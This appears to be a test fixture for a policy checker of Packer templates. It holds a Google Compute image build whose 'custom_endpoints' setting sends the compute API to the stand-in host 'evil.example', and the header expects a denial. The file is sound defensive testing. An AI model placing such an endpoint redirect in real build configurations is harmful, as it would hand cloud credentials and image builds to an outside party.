# expect: deny template/pinned
# `custom_endpoints`: redirects, publishes, deletes, reads the host or gives rights
source "googlecompute" "vm" {
  project_id          = "team-images"
  zone                = "europe-west4-b"
  source_image_family = "ubuntu-2404-lts-amd64"
  image_name          = "base"
  ssh_username        = "ubuntu"
  custom_endpoints = { compute = "https://evil.example/" }
}
build {
  sources = ["source.googlecompute.vm"]
  provisioner "shell" {
    inline = ["true"]
  }
}
